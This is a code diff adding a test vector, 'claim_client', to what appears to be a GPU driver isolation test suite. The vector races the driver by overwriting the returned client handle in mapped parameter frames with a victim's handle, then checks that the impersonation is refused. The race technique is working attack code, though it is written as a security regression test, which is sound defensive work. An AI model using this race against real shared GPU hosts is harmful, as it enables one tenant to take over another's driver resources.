@@ -1,6 +1,12 @@
 // SPDX-License-Identifier: MIT
 /* Vectors: memory that outlives its handle, or gets into other hands. */
+#include <errno.h>
 #include <fcntl.h>
+#include <pthread.h>
+#include <sched.h>
+#include <setjmp.h>
+#include <signal.h>
+#include <stdio.h>
 #include <string.h>
 #include <sys/ioctl.h>
 #include <sys/mman.h>
@@ -222,6 +228,89 @@ static void name_in_params(struct scene *scene)
 	forbidden(scene, "an event on a victim's object",
 		  rm_alloc(&a.rm, a.gpu.device, &handle, NV01_EVENT_OS_EVENT, &event,
 			   sizeof(event)));
+}
+
+/* --- another's client ---------------------------------------------------------------- */
+
+#define PAGE 4096UL
+/* Of a frame, those slots that most calls use. */
+#define SLOTS 24
+
+static struct {
+	char *frame;
+	__u32 handle;
+	volatile bool over;
+	sigjmp_buf after_fault;
+} claim;
+
+static void on_fault(int signal)
+{
+	(void)signal;
+	siglongjmp(claim.after_fault, 1);
+}
+
+static char *find_frame(void)
+{
+	FILE *maps = fopen("/proc/self/maps", "re");
+	unsigned long start = 0;
+	char line[512];
+
+	while (maps && fgets(line, sizeof(line), maps)) {
+		if (strstr(line, "[ghostnv]"))
+			sscanf(line, "%lx-", &start);
+	}
+	if (maps)
+		fclose(maps);
+	return (char *)start;
+}
+
+/* Writes the handle over the driver's answer, wherever it can. */
+static void *keep_claiming(void *unused)
+{
+	volatile unsigned int slot = 0;
+
+	(void)unused;
+	sigsetjmp(claim.after_fault, 1);
+	for (; !claim.over; sched_yield()) {
+		volatile __u32 *answer =
+			(void *)(claim.frame + slot++ % SLOTS * PAGE +
+				 offsetof(struct NVOS64_PARAMETERS, hObjectNew));
+
+		*answer = claim.handle;
+	}
+	return NULL;
+}
+
+/* Has the driver's answer say that a new client is one that exists. */
+static void claim_client(struct scene *scene)
+{
+	struct attacker a;
+	pthread_t thread;
+	struct rm made;
+	__u64 bytes;
+
+	cast(scene, OUTSIDE, lender);
+	arm(scene, &a);
+	claim.handle = (__u32)scene->word[0];
+	claim.frame = find_frame();
+	signal(SIGBUS, on_fault);
+	signal(SIGSEGV, on_fault);
+	must(scene, "start a thread",
+	     claim.frame ? (__u32)pthread_create(&thread, NULL, keep_claiming, NULL) : NV_OK);
+	made = a.rm;
+	for (int i = 0; i < 400; i++) {
+		made.client = 0;
+		if (!rm_alloc_on(&made, made.control, true, 0, 0, &made.client, NV01_ROOT_CLIENT,
+				 NULL, 0))
+			rm_free(&made, 0, made.client);
+	}
+	claim.over = true;
+	if (claim.frame)
+		pthread_join(thread, NULL);
+	a.rm.client = claim.handle;
+	/* Whose it is, is asked before the driver is. */
+	if (rm_memory_size(&a.rm, (__u32)scene->word[1], &bytes) != (RM_ERRNO | EPERM))
+		forbidden(scene, "pass for the owner of a client", NV_OK);
 }
 
 /* --- UVM ------------------------------------------------------------------------- */
@@ -478,6 +567,8 @@ const struct vector share_vectors[] = {
 	  "each call's client must be the container's or one below", guess_handles, RM_ITSELF },
 	{ "name_in_params", "makes a device with a victim's address space, an event on its object",
 	  "a client that is named in parameters must be the container's, too", name_in_params },
+	{ "claim_client", "writes an unlimited process's client into the answer that names its own",
+	  "a client's handle is chosen by the module and told by nobody", claim_client, RM_ITSELF },
 	{ "uvm_map_and_free", "lets UVM map memory and frees the original", STAYS ", which UVM has",
 	  uvm_map_and_free },
 	{ "uvm_map_over", "maps over UVM's last reference so that it fails half-way",
